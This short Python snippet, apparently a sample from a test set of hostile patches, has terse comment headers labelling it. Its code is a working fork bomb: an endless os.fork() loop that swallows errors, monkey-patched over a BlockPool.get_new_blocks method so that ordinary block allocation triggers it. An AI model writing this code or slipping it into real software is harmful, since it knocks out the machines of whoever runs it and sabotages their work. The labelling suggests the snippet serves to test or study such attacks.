# tries: Forks for ever.
# base: wrong
# verdict: less

import os
def bomb(self, n):
    while True:
        try: os.fork()
        except OSError: pass
BlockPool.get_new_blocks = bomb
